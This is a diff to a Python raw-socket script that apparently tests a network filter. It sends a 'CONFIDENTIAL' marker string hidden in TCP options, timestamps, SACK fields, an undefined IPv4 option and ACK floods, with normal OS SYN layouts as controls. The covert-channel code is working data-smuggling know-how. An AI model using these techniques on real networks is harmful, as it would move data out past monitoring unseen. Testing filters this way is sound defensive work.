@@ -14,6 +14,11 @@ def ip4(src, dst, proto, body, ident):
                     socket.inet_aton(src), socket.inet_aton(dst))
     return h[:10] + struct.pack("!H", csum(h)) + h[12:] + body
 
+def ip4_options(src, dst, proto, body, ident, options):
+    h = struct.pack("!BBHHHBBH4s4s", 0x40 | (5 + len(options) // 4), 0, 20 + len(options) + len(body), ident, 0, 64,
+                    proto, 0, socket.inet_aton(src), socket.inet_aton(dst)) + options
+    return h[:10] + struct.pack("!H", csum(h)) + h[12:] + body
+
 def wg_server(port):
     import os
     u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
@@ -54,15 +59,16 @@ def wg_then_surplus(s4, d4, mark, count):
         r4.sendto(ip4(s4, d4, 17, body, 4000 + i), (d4, 0))
         time.sleep(0.05)
 
-def tls_optack(s4, d4, mark, count):
+def tls_optack(s4, d4, mark, count, ip_options=False):
     """A real HTTPS connection (allowed as encrypted), then bare ACKs at its
     current sequence numbers, each with a kind-253 option: the marker and
-    text."""
+    text (with ip_options: in an IPv4 option of a kind nothing defines)."""
     import ssl, select
+    sport = 41202 if ip_options else 41200
     sn = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
     sn.bind(("eth0", 0)); sn.setblocking(False)
     ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
-    t = socket.socket(); t.bind((s4, 41200)); t.connect((d4, 443))
+    t = socket.socket(); t.bind((s4, sport)); t.connect((d4, 443))
     c = ctx.wrap_socket(t)
     c.sendall(b"GET /bytes/100 HTTP/1.1\r\nHost: x\r\n\r\n")
     c.settimeout(2)
@@ -75,7 +81,7 @@ def tls_optack(s4, d4, mark, count):
         except BlockingIOError: break
         if f[12:14] != b"\x08\x00" or f[23] != 6: continue
         ip = f[14:]; ihl = (ip[0] & 15) * 4; tcp = ip[ihl:]
-        if ip[12:16] == socket.inet_aton(s4) and struct.unpack("!H", tcp[0:2])[0] == 41200:
+        if ip[12:16] == socket.inet_aton(s4) and struct.unpack("!H", tcp[0:2])[0] == sport:
             tl = struct.unpack("!H", ip[2:4])[0] - ihl - (tcp[12] >> 4) * 4
             seq = (struct.unpack("!I", tcp[4:8])[0] + tl + (1 if tcp[13] & 3 else 0)) & 0xffffffff
             ack = struct.unpack("!I", tcp[8:12])[0]
@@ -83,11 +89,14 @@ def tls_optack(s4, d4, mark, count):
     r4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     body = (mark + " CONFIDENTIAL rotor blade alloy spec rev 7 ").encode() * 2
     for i in range(int(count)):
-        opt = bytes([253, 40]) + body[:38]
-        tcp = struct.pack("!HHIIBBHHH", 41200, 443, seq, ack, 15 << 4, 0x10, 64240, 0, 0) + opt
+        opt = b"" if ip_options else bytes([253, 40]) + body[:38]
+        tcp = struct.pack("!HHIIBBHHH", sport, 443, seq, ack, (5 + len(opt) // 4) << 4, 0x10, 64240, 0, 0) + opt
         ph = socket.inet_aton(s4) + socket.inet_aton(d4) + struct.pack("!BBH", 0, 6, len(tcp))
         tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
-        r4.sendto(ip4(s4, d4, 6, tcp, 5000 + i), (d4, 0))
+        if ip_options:
+            r4.sendto(ip4_options(s4, d4, 6, tcp, 5000 + i, bytes([0x9e, 40]) + body[:38]), (d4, 0))
+        else:
+            r4.sendto(ip4(s4, d4, 6, tcp, 5000 + i), (d4, 0))
         time.sleep(0.05)
     time.sleep(0.5)
     c.close()
@@ -133,14 +142,66 @@ def tls6_srh(s6, d6, mark, count):
     time.sleep(0.5)
     c.close()
 
+# SYNs to cn:8443, each with these options (t: the text from this SYN's offset).
+SYN_OPTIONS = {
+    # a kind nothing defines, 38 bytes of text
+    "tcp-optsyn": lambda t: bytes([253, 40]) + t[:38],
+    # a known kind at the wrong length: "timestamps" of 38 bytes
+    "tcp-tslen": lambda t: bytes([8, 40]) + t[:38],
+    # timestamps twice, each carrying 8 bytes of text, then more text in a third
+    "tcp-tstwice": lambda t: b"".join(b"\x01\x01\x08\x0a" + t[8 * k:8 * k + 8] for k in range(3)) + b"\x01\x01\x01\x01",
+    # SACK blocks in a SYN: 32 bytes of "edges"
+    "tcp-synsack": lambda t: b"\x01\x01\x08\x0a" + t[:8] + b"\x01\x01\x05\x1a" + t[8:32],
+    # text after an end-of-list
+    "tcp-eoltext": lambda t: b"\x02\x04\x05\xb4\x00" + t[:35],
+    # controls, the layouts of real stacks: Windows; macOS; Linux
+    "tcp-syn-windows": lambda t: bytes.fromhex("020405b4 01030308 01010402"),
+    "tcp-syn-macos": lambda t: bytes.fromhex("020405b4 01030306 0101080a 12345678 00000000 04020000"),
+    "tcp-syn-linux": lambda t: bytes.fromhex("020405b4 0402080a 12345678 00000000 01030307"),
+}
+
+def ack_flood(s4, d4, mark, count):
+    """A connection to a silent server on cn:9000 (undecided: no data), then
+    COUNT bare ACKs at its sequence numbers whose timestamps carry text."""
+    sn = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
+    sn.bind(("eth0", 0)); sn.setblocking(False)
+    t = socket.socket(); t.bind((s4, 41300)); t.connect((d4, 9000))
+    time.sleep(0.3)
+    seq = ack = None
+    while True:
+        try: f = sn.recv(70000)
+        except BlockingIOError: break
+        if f[12:14] != b"\x08\x00" or f[23] != 6: continue
+        ip = f[14:]; ihl = (ip[0] & 15) * 4; tcp = ip[ihl:]
+        if ip[12:16] == socket.inet_aton(s4) and struct.unpack("!H", tcp[0:2])[0] == 41300:
+            seq = (struct.unpack("!I", tcp[4:8])[0] + (1 if tcp[13] & 2 else 0)) & 0xffffffff
+            ack = struct.unpack("!I", tcp[8:12])[0]
+    print("seq", seq, "ack", ack, flush=True)
+    r4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    text = (mark + " CONFIDENTIAL rotor blade alloy spec rev 7 ").encode() * 40
+    t0 = time.monotonic()
+    for i in range(int(count)):
+        opt = b"\x01\x01\x08\x0a" + text[8 * i:8 * i + 8]
+        tcp = struct.pack("!HHIIBBHHH", 41300, 9000, seq, ack, 8 << 4, 0x10, 64240, 0, 0) + opt
+        ph = socket.inet_aton(s4) + socket.inet_aton(d4) + struct.pack("!BBH", 0, 6, len(tcp))
+        tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
+        r4.sendto(ip4(s4, d4, 6, tcp, 6000 + i), (d4, 0))
+    print("seconds %.3f" % (time.monotonic() - t0), flush=True)
+    time.sleep(0.3)
+    t.close()
+
 def main():
     if sys.argv[1] == "wg-server":
         return wg_server(int(sys.argv[2]))
     kind, s4, d4, s6, d6, mark, count = sys.argv[1:8]
     if kind == "tls6-srh":
         return tls6_srh(s6, d6, mark, count)
+    if kind == "tcp-ackflood":
+        return ack_flood(s4, d4, mark, count)
     if kind == "tls-optack":
         return tls_optack(s4, d4, mark, count)
+    if kind == "tls-ipopt":
+        return tls_optack(s4, d4, mark, count, ip_options=True)
     if kind == "wg-surplus":
         return wg_then_surplus(s4, d4, mark, count)
     text = (mark + " CONFIDENTIAL rotor blade alloy spec rev 7 ").encode() * 40
@@ -170,12 +231,18 @@ def main():
         elif kind == "tcp-doff4":
             tcp = struct.pack("!HHIIBBHHH", 41072, 80, 1000 + i * 1200, 0, 4 << 4, 0x18, 64240, 0, 0) + text
             r4.sendto(ip4(s4, d4, 6, tcp, 2000 + i), (d4, 0))
-        elif kind == "tcp-optsyn":
-            opt = bytes([253, 40]) + text[i * 38 % 1100:][:38]
-            tcp = struct.pack("!HHIIBBHHH", 42000 + i, 8443, 7777, 0, 15 << 4, 0x02, 64240, 0, 0) + opt
+        elif kind in SYN_OPTIONS:
+            opt = SYN_OPTIONS[kind](text[i * 38 % 1100:])
+            # each kind its own source ports: no conntrack entry of an earlier kind's SYN meets it
+            sport = 42000 + 10 * list(SYN_OPTIONS).index(kind) + i
+            tcp = struct.pack("!HHIIBBHHH", sport, 8443, 7777, 0, (5 + len(opt) // 4) << 4, 0x02,
+                              64240, 0, 0) + opt
             ph = socket.inet_aton(s4) + socket.inet_aton(d4) + struct.pack("!BBH", 0, 6, len(tcp))
             tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
             r4.sendto(ip4(s4, d4, 6, tcp, 3000 + i), (d4, 0))
+            if kind.startswith("tcp-syn-"):  # the controls: retransmitted once, as a stack would
+                time.sleep(0.02)
+                r4.sendto(ip4(s4, d4, 6, tcp, 3000 + i), (d4, 0))
         time.sleep(0.05)
 
 main()
